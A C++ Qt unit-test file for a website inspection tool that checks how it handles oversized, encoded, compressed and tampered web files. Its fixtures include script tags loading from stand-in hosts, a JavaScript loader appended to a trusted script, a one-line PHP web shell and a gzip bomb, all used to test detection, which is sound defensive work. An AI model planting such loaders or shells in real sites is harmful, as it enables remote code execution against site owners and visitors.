#include "base/error.h"
#include "inspection/charset.h"
#include "inspection/inspectfile.h"
#include "inspection/inspector.h"
#include "inspection/prefilter.h"
#include "inspection/script/scriptfacts.h"
#include "inspection/text.h"
#include "inspection/url.h"
#include "inspection/worker/inspectworker.h"
#include "support/tempfolder.h"

#include <QTest>

#include <sys/stat.h>
#include <thread>
#include <zlib.h>

using namespace akimori;
using namespace akimori::inspection;

namespace {

InspectionOptions options()
{
    InspectionOptions result;
    result.helper = QByteArrayLiteral(AKIMORI_BINARY_DIR "/bin/akimori-inspect");
    return result;
}

bool hasRule(const InspectionResult& result, const QByteArray& path, const char* rule)
{
    return std::any_of(result.findings.begin(), result.findings.end(), [&](const Finding& finding) {
        return finding.path == path && finding.rule == QLatin1String(rule);
    });
}

bool isUnchecked(const InspectionResult& result, const QByteArray& path)
{
    return std::any_of(result.unchecked.begin(), result.unchecked.end(), [&](const UncheckedPath& item) {
        return item.path == path && !item.why.isEmpty();
    });
}

} // namespace

class tst_hostilecontent : public QObject
{
    Q_OBJECT

private slots:
    void absurdNestingIsUncheckedNotOk()
    {
        const test::TempFolder folder;
        folder.write("deep.html", QByteArray("<div>").repeated(300'000) + "<script src=//evil-host.xyz></script>");
        folder.write("thousand.html", "<html><body>" + QByteArray("<div>").repeated(1000) + "x");
        folder.write("plain.html", "<html><body><p>x</p></body></html>");
        JobContext job;
        const InspectionResult result = inspectTree(folder.bytes(), options(), job);
        QVERIFY(isUnchecked(result, "deep.html"));
        QVERIFY(isUnchecked(result, "thousand.html"));
        QVERIFY(!isUnchecked(result, "plain.html"));
        QCOMPARE(result.checked, 1);
        QVERIFY(result.verdict() != Verdict::Ok);
    }

    void hugeSingleLineIsBounded()
    {
        const test::TempFolder folder;
        folder.write("line.html", "<html><body>" + QByteArray("a<b>").repeated(9 << 20));
        JobContext job;
        const InspectionResult result = inspectTree(folder.bytes(), options(), job);
        QVERIFY(isUnchecked(result, "line.html"));
        QCOMPARE(result.checked, 0);
    }

    void hugeFilesOfEveryKindEndAndAreNeverOk()
    {
        const test::TempFolder folder;
        folder.write("attributes.html", "<p " + QByteArray("a=b ").repeated(3'000'000) + ">");
        folder.write("tags.html", "<html><body>" + QByteArray("<b><i><font>").repeated(400'000));
        folder.write("line.js", QByteArray("a=[(b,c)=>'x'+\"y\"];").repeated(50'000'000 / 20));
        folder.write("deep.js", QByteArray("f(function(){").repeated(500'000));
        folder.write("style.html", "<style>" + QByteArray(".a b{left:-999px}").repeated(300'000) + "</style><b class=a>");
        JobContext job;
        const InspectionResult result = inspectTree(folder.bytes(), options(), job);
        for (const char* name : {"tags.html", "line.js", "deep.js"})
            QVERIFY2(isUnchecked(result, name), name);
        QCOMPARE(static_cast<qint64>(result.unchecked.size()) + result.checked, 5);
        QVERIFY(result.verdict() != Verdict::Ok);
    }

    void otherEncodingsOfAnAttackAreRead()
    {
        const QByteArray page = "<html><body><script src=http://203.0.113.9/x.js></script></body></html>";
        QByteArray wide;
        for (const char c : page)
            wide += QByteArray(1, c) + '\0';
        QByteArray holes = page;
        holes.replace("<script", QByteArray("<scr\0ipt", 9));
        const test::TempFolder folder;
        folder.write("marked.html", "\xFF\xFE" + wide);
        folder.write("bare.html", wide);
        folder.write("nul.html", holes);
        folder.write("nothing.html", QByteArray(5'000'000, '\0'));
        JobContext job;
        const InspectionResult result = inspectTree(folder.bytes(), options(), job);
        for (const char* name : {"marked.html", "bare.html", "nul.html"})
            QVERIFY2(hasRule(result, name, "H05"), name);
        QVERIFY(hasRule(result, "nul.html", "H19"));
    }

    void compressedBombsAreNotUnfolded()
    {
        // 64 MiB of zeros in a few kilobytes; the page beside it is small.
        QByteArray bomb(80 << 10, Qt::Uninitialized);
        z_stream stream{};
        QCOMPARE(::deflateInit2(&stream, 9, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY), Z_OK);
        QByteArray zeros(1 << 20, '\0');
        stream.next_out = reinterpret_cast<Bytef*>(bomb.data());
        stream.avail_out = static_cast<uInt>(bomb.size());
        for (int i = 0; i < 64; ++i) {
            stream.next_in = reinterpret_cast<Bytef*>(zeros.data());
            stream.avail_in = static_cast<uInt>(zeros.size());
            ::deflate(&stream, i == 63 ? Z_FINISH : Z_NO_FLUSH);
        }
        bomb.truncate(static_cast<qsizetype>(stream.total_out));
        ::deflateEnd(&stream);
        const test::TempFolder folder;
        folder.write("index.html", "<p>x</p>");
        folder.write("index.html.gz", bomb);
        folder.write("data.gz", bomb);
        JobContext job;
        const InspectionResult result = inspectTree(folder.bytes(), options(), job);
        QVERIFY(hasRule(result, "index.html.gz", "F11") || isUnchecked(result, "index.html.gz"));
        QVERIFY(isUnchecked(result, "data.gz")); // nothing to compare it with: never "no anomaly"
    }

    void aHelperThatHangsIsKilled()
    {
        const test::TempFolder folder;
        const QByteArray program = folder.write("hang", "#!/bin/sh\n: >\"${0%/*}/started\"\nexec sleep 600\n", 0755);
        folder.write("site/index.html", "<p>x</p>");
        InspectionOptions hanging = options();
        hanging.helper = program;
        JobContext job;
        std::thread impatient([&] {
            while (!folder.exists("started"))
                std::this_thread::yield();
            job.cancel();
        });
        QVERIFY_THROWS_EXCEPTION(Error, inspectTree(folder.at("site"), hanging, job));
        impatient.join();
        QVERIFY(InspectWorker::deadlineFor(50'000'000) < std::chrono::seconds(60)); // and without anybody's help
    }

    void codeAttachedToAnApprovedScriptIsFound()
    {
        const QByteArray approved = "function menu(){var m=document.getElementById('m');m.classList.toggle('open');}\n";
        const QByteArray loader = "(function(){var a=document.createElement('script');a.src='https://files.globex-media.net/t.js';"
                                  "document.head.appendChild(a)})();\n";
        const test::TempFolder folder;
        for (const char* name : {"behind.js", "before.js", "honest.js"})
            folder.write(QByteArray("old/") + name, approved);
        folder.write("new/behind.js", approved + loader);
        folder.write("new/before.js", loader + approved);
        folder.write("new/honest.js", approved + "function tab(n){return n+1}\n");
        InspectionOptions both = options();
        both.baselineDir = folder.at("old");
        JobContext job;
        const InspectionResult result = inspectTree(folder.at("new"), both, job);
        QVERIFY(hasRule(result, "behind.js", "J04"));
        QVERIFY(hasRule(result, "before.js", "J04"));
        QVERIFY(!hasRule(result, "honest.js", "J04"));
    }

    void missingHelperIsUnchecked()
    {
        const test::TempFolder folder;
        folder.write("index.html", "<p>x</p>");
        InspectionOptions none = options();
        none.helper = "/nonexistent/akimori-inspect";
        JobContext job;
        const InspectionResult result = inspectTree(folder.bytes(), none, job);
        QVERIFY(isUnchecked(result, "index.html"));
        QVERIFY(result.verdict() == Verdict::Unchecked);
    }

    void linksAndSpecialFilesAreNotOpened()
    {
        const test::TempFolder folder;
        folder.write("outside.html", "<?php system($_GET['c']);");
        folder.write("site/index.html", "<p>x</p>");
        folder.symlink("../outside.html", "site/out.html");
        folder.symlink("index.html", "site/in.html");
        ::mkfifo(folder.at("site/fifo").constData(), 0600);
        JobContext job;
        const InspectionResult result = inspectTree(folder.at("site"), options(), job);
        QVERIFY(hasRule(result, "out.html", "F07"));
        QCOMPARE(result.findings.size(), 1u);
        QVERIFY(isUnchecked(result, "fifo"));
    }

    void hostileNamesComeThrough()
    {
        const test::TempFolder folder;
        for (const QByteArray& name : test::TempFolder::hostileNames())
            folder.write(name, "text");
        JobContext job;
        const InspectionResult result = inspectTree(folder.bytes(), options(), job);
        QCOMPARE(static_cast<qsizetype>(result.checked), test::TempFolder::hostileNames().size());
    }

    void differencesAreReported()
    {
        const test::TempFolder folder;
        folder.write("old/a.html", "<p>1</p>");
        folder.write("old/b.html", "<p>1</p>");
        folder.write("old/c.html", "<p>1</p>");
        folder.write("new/a.html", "<p>2</p>");
        folder.write("new/b.html", "<p>1</p>", 0600);
        folder.write("new/d.html", "<p>1</p>");
        InspectionOptions both = options();
        both.baselineDir = folder.at("old");
        JobContext job;
        const InspectionResult result = inspectTree(folder.at("new"), both, job);
        QHash<QByteArray, ChangeKind> changes;
        for (const Finding& finding : result.findings) {
            QVERIFY(finding.rule.isEmpty() && finding.severity <= Severity::Medium);
            changes.insert(finding.path, finding.change);
        }
        QVERIFY((changes == QHash<QByteArray, ChangeKind>{{"a.html", ChangeKind::Modified}, {"b.html", ChangeKind::Mode},
                                                          {"c.html", ChangeKind::Removed}, {"d.html", ChangeKind::Added}}));
    }

    void evidenceIsInert()
    {
        QCOMPARE(inert("a\x1b[31m\n\tb"), QStringLiteral("a\\x1b[31m b"));
        QVERIFY(inert(QByteArray(5000, 'x')).size() <= 400);
    }

    void charsets_data()
    {
        QTest::addColumn<QByteArray>("raw");
        QTest::addColumn<QByteArray>("charset");
        QTest::newRow("sjis") << QByteArray("<meta charset=shift_jis>\x8e\x73\x96\xf0\x8f\x8a") << QByteArray("CP932");
        QTest::newRow("euc") << QByteArray("<meta charset=euc-jp>\xbb\xd4\xcc\xf2\xbd\xea") << QByteArray("EUC-JP-MS");
        QTest::newRow("jis") << QByteArray("<p>\x1b$B;TLr=j\x1b(B") << QByteArray("ISO-2022-JP");
        QTest::newRow("wrong") << QByteArray("<meta charset=utf-8>\x8e\x73\x96\xf0\x8f\x8a") << QByteArray("CP932");
        QTest::newRow("utf8") << QByteArray("<p>\xe5\xb8\x82\xe5\xbd\xb9\xe6\x89\x80") << QByteArray("UTF-8");
    }

    void charsets()
    {
        QFETCH(QByteArray, raw);
        const DecodedText text = decodeText(raw);
        QTEST(text.charset, "charset");
        QVERIFY(text.text.contains("\xe5\xb8\x82\xe5\xbd\xb9\xe6\x89\x80")); // 市役所
    }

    void addressesAsABrowserReadsThem()
    {
        QCOMPARE(parseUrl("ht\ttps:\\\\Evil.Example\\a").host, QByteArray("evil.example"));
        QCOMPARE(parseUrl("//a.example./x").host, QByteArray("a.example"));
        QVERIFY(parseUrl("https://city.example@evil.example/").userInfo);
        QVERIFY(parseUrl("http://0x7f000001/").numericHost);
        QVERIFY(!parseUrl("/a//b").isRemote());
        QCOMPARE(registrableDomain("www.city.example.lg.jp"), QByteArray("example.lg.jp"));
    }

    void prefilterFindsWordsAcrossBlocks()
    {
        Prefilter prefilter;
        const QByteArray first = QByteArray(1000, 'a') + "<?P";
        const QByteArray second = "hp eval(";
        prefilter.scan({first.constData(), static_cast<std::size_t>(first.size())});
        QVERIFY(!prefilter.has(Hint::ServerCode));
        prefilter.scan({second.constData(), static_cast<std::size_t>(second.size())});
        QVERIFY(prefilter.has(Hint::ServerCode));
        QCOMPARE(prefilter.hits().front().end, 1005);
        QVERIFY(prefilter.has(Hint::Executor));
    }

    void scriptsOfNonsenseEnd_data()
    {
        QTest::addColumn<QByteArray>("code");
        QTest::newRow("brackets") << QByteArray("[").repeated(200'000);
        QTest::newRow("parentheses") << QByteArray("((((a)").repeated(50'000);
        QTest::newRow("braces") << QByteArray("{").repeated(200'000);
        QTest::newRow("not") << QByteArray("!").repeated(200'000);
        QTest::newRow("question") << QByteArray("a?").repeated(100'000);
        QTest::newRow("slashes") << QByteArray("=/").repeated(100'000);
        QTest::newRow("functions") << QByteArray("(function(a){").repeated(20'000);
        QTest::newRow("quotes") << QByteArray("'`").repeated(100'000);
        QTest::newRow("doubling") << "a='x';" + QByteArray("a=a+a;").repeated(10'000);
        QTest::newRow("arrows") << QByteArray("a=>").repeated(100'000);
    }

    void scriptsOfNonsenseEnd()
    {
        QFETCH(QByteArray, code);
        const ScriptFacts facts = analyseScript(code);
        QVERIFY(!facts.decoderExecuted);
    }

    void cancelStopsTheTree()
    {
        const test::TempFolder folder;
        folder.write("a.html", "x");
        JobContext job;
        job.cancel();
        QVERIFY_THROWS_EXCEPTION(Error, inspectTree(folder.bytes(), options(), job));
    }
};

QTEST_GUILESS_MAIN(tst_hostilecontent)
#include "tst_hostilecontent.moc"
